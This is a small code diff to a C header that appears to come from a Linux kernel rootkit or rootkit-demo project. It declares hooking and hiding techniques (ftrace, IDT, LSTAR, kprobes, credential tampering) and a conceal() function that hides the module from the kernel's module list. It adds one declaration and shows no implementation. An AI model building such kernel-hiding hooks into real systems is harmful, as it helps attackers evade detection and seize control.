@@ -27,7 +27,7 @@ struct trick {
 };
 extern const struct trick hide_trick, ftrace_trick, fops_trick, dispatch_trick, inline_trick,
 	lstar_trick, idt_trick, remap_trick, cred_trick, code_trick, kprobe_trick, control_trick,
-	corrupt_trick;
+	corrupt_trick, see_trick;
 
 /* The module out of the kernel's list of modules, and in it again. */
 int conceal(void);
